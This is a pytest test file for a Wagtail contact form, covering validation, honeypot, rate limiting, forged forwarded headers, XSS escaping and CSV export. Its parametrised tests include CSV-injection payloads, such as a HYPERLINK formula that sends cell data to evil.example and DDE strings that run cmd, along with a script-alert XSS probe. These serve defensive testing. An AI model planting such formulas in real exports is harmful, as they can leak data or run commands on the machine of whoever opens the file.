"""Contact/feedback form pages: validation, storage, staff email, honeypot, rate limit."""

import pytest
from django.core import mail
from wagtail.contrib.forms.models import FormSubmission

from cms_pages.services import FORM_RATE_LIMIT

GOOD = {"your_name": "Lena", "email": "lena@example.com", "message": "When do you launch in Spain?"}


@pytest.mark.django_db
def test_a_valid_message_is_stored_staff_are_emailed_and_a_thank_you_shown(
    client, site_tree, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post("/contact/", GOOD)
    assert len(callbacks) == 1  # the email waits for the commit
    assert response.status_code == 200
    assert "Thanks a lot!" in response.content.decode()
    submission = FormSubmission.objects.get(page=site_tree["contact"])
    assert submission.get_data()["message"] == "When do you launch in Spain?"
    assert "website_url" not in submission.form_data
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["team@taptime.example"]
    assert "When do you launch in Spain?" in mail.outbox[0].body


@pytest.mark.django_db
def test_wrong_input_gets_field_messages_and_stores_nothing(client, site_tree):
    response = client.post("/contact/", {"your_name": "", "email": "not-an-email", "message": ""})
    assert response.status_code == 400
    body = response.content.decode()
    assert "Please correct the errors below." in body
    assert "Enter a valid email address." in body
    assert "This field is required." in body
    assert 'value="not-an-email"' in body  # what the visitor typed is kept
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


@pytest.mark.django_db
def test_the_honeypot_is_rendered_hidden_and_a_filled_one_is_silently_dropped(client, site_tree):
    page = client.get("/contact/").content.decode()
    assert 'class="field honeypot" aria-hidden="true"' in page and 'tabindex="-1"' in page
    response = client.post("/contact/", {**GOOD, "website_url": "http://spam.example"})
    assert response.status_code == 200
    assert "Thanks a lot!" in response.content.decode()
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


@pytest.mark.django_db
def test_the_rate_limit_stops_a_flood_from_one_address_with_a_clear_message(client, site_tree):
    for _ in range(FORM_RATE_LIMIT):
        assert client.post("/contact/", GOOD).status_code == 200
    response = client.post("/contact/", GOOD)
    assert response.status_code == 429
    assert "Please wait 10 minutes and try again." in response.content.decode()
    assert FormSubmission.objects.count() == FORM_RATE_LIMIT
    # Another address is not affected.
    assert client.post("/contact/", GOOD, REMOTE_ADDR="10.0.0.2").status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("proxies", [0, 1])
def test_a_forged_forwarded_header_does_not_reset_the_form_limit(client, site_tree, settings, proxies):
    settings.TRUSTED_PROXY_COUNT = proxies

    def meta(forged):
        if proxies:
            return {"REMOTE_ADDR": "10.0.0.1", "HTTP_X_FORWARDED_FOR": f"{forged}, 198.51.100.7"}
        return {"REMOTE_ADDR": "198.51.100.7", "HTTP_X_FORWARDED_FOR": forged}

    for i in range(FORM_RATE_LIMIT):
        assert client.post("/contact/", GOOD, **meta(f"192.0.2.{i}")).status_code == 200
    assert client.post("/contact/", GOOD, **meta("192.0.2.99")).status_code == 429
    assert FormSubmission.objects.count() == FORM_RATE_LIMIT


@pytest.mark.django_db
def test_behind_a_proxy_one_visitor_cannot_close_the_form_for_everyone(client, site_tree, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    for _ in range(FORM_RATE_LIMIT + 1):
        client.post("/contact/", GOOD, REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    assert (
        client.post("/contact/", GOOD, REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.8").status_code == 200
    )


@pytest.mark.django_db
def test_submissions_are_exportable_in_the_admin(client, site_tree, staff_user):
    client.post("/contact/", GOOD)
    client.force_login(staff_user)
    response = client.get(f"/admin/forms/submissions/{site_tree['contact'].pk}/?export=csv")
    assert response.status_code == 200
    assert (
        "When do you launch in Spain?"
        in b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    )


@pytest.mark.django_db
def test_an_editors_help_text_is_shown_as_text_not_markup(client, site_tree):
    # includes/form_field.html marks help text safe for our own developer strings; Wagtail
    # escapes form-builder help text first (WAGTAILFORMS_HELP_TEXT_ALLOW_HTML stays off).
    field = site_tree["contact"].form_fields.get(label="Message")
    field.help_text = "<script>alert(1)</script><b>bold</b>"
    field.save()
    body = client.get("/contact/").content.decode()
    assert "<script>alert(1)</script>" not in body and "<b>bold</b>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


@pytest.mark.django_db
@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_in_a_submission_is_exported_to_csv_as_text(client, site_tree, staff_user, payload):
    import csv
    import io

    client.post("/contact/", {**GOOD, "message": payload})
    client.force_login(staff_user)
    response = client.get(f"/admin/forms/submissions/{site_tree['contact'].pk}/?export=csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    messages = [row[-1] for row in rows[1:]]
    assert messages == ["'" + payload], rows
    # The page itself and the XLSX export keep the value as the visitor typed it.
    assert FormSubmission.objects.get().get_data()["message"] == payload


def test_only_formula_starts_are_neutralised():
    from cms_pages.exports import neutralise_formula

    assert neutralise_formula("When do you launch? =)") == "When do you launch? =)"
    assert neutralise_formula("=1+1") == "'=1+1"
    assert neutralise_formula("\t=1+1") == "'\t=1+1"
    assert neutralise_formula(42) == 42
